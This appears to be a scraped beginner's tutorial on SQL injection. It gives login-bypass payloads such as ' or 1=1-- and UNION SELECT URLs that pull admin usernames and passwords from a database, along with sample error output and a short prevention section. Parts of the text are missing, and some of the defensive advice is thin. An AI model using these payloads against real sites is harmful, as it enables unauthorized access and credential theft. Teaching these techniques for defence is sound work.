sql injection
sql injection

The following article will try to help beginners with SQL Injection techniques, to successfully utilize them, and to protect themselves from such attacks.

  1. Introduction

SQL injection is one of the type of web hacking that requires nothing but port 80 and it might just work even if the admin is patch-happy. It attacks on the web application (like ASP, JSP, PHP, CGI, etc) itself rather than on the web server or services running in the OS. we would like to document some of our pen-test using SQL injection and hope that it may be of some use to others. You may find a trick or two but please check out the “9.0 Where can I get more info?” for people who truly deserve credit for developing many techniques in SQL injection.

2. What is SQL Injection?It is a way to inject SQL query/command as an input possibly via web pages. Many web pages take parameters from the web user and make SQL query to the database. With SQL Injection, it is possible for us to send crafted user name and/or password field that will change the SQL query and thus grant us something else.

3. What should you look for?

Try to look for pages that allow you to submit data, i.e: login page, search page, feedback, etc. Sometimes, HTML pages use POST command to send parameters to another ASP page. Therefore, you may not see the parameters in the URL. However, you can check the source code of the HTML, and look for “FORM” tag in the HTML code. You may find something like this in some HTML codes:

<FORM action=Search/search.asp method=post>
<input type=hidden name=A value=C>

Everything between the <FORM> and </FORM> has potential parameters that might be useful.

4. What if you can’t find any page that takes input?

You should look for pages like ASP, JSP, CGI, or PHP web pages. Try to look especially for URL that takesparameters, like:


5. How do you test if it is vulnerable?

Start with a single quote trick. Input something like:

hi’ or 1=1–

Into login, or password, or even in the URL. Example:
– Login: hi’ or 1=1–
 – Pass: hi’ or 1=1–
 – http://xyz.com/index.asp?id=hi’ or 1=1–

If you must do this with a hidden field, just downloadthe source HTML from the site, save it in your hard disk, modify the URL and hidden field accordingly. Example:

<FORM action=http://xyz.com/Search/search.asp method=post>
<input type=hidden name=A value=”hi’ or 1=1–“>

If luck is on your side, you will get login without any login name or password. Depending on the actual SQL query, you may have to try some of these possibilities:

‘ or 1=1–
” or 1=1–
or 1=1–
‘ or‘a’=’a
” or “a”=”a
‘) or (‘a’=’a

6. How to retrieve any data we want?

Now that we have identified some important tables and their column, we can use the same technique to gather any information we want from the database.Now, let’s get the first login_name from the “admin_login” table.

http://xyz.com/index.asp?id=10 UNION SELECT TOP 1 login_name FROM admin_login


Microsoft OLE DB Provider for ODBC Drivers error ‘80040e07’
[Microsoft][ODBC SQL Server Driver][SQL Server]Syntax error converting the nvarchar value ‘neo’ to a column of data type int.
/index.asp, line 5

http://xyz.com/index.asp?id=10 UNION SELECT TOP 1 password FROM admin_login where login_name=’neo’–


Microsoft OLE DB Provider for ODBC Drivers error ‘80040e07’
[Microsoft][ODBC SQL Server Driver][SQL Server]Syntax error converting the nvarchar value ‘m4trix’ to a column of data type int.
/index.asp, line 5

We can now log in as “neo” with his password “m4trix”.

7. How to avoid SQL Injection?

Filter out a character like single quote, double quote, slash, back slash, semi colon, an extended character like NULL, carry return, new line, etc, in all strings from:

  • Input from users
  • Parameters from URL• Values from cookie

For a numeric value, convert it to an integer before parsing it into SQL statement. Or using ISNUMERIC to make sure it is an integer. Change “Startup and run SQL Server” using low privilege user in SQL Server Security tab. Delete stored procedures that you are not using.


Please enter your comment!
Pleaseenter your name here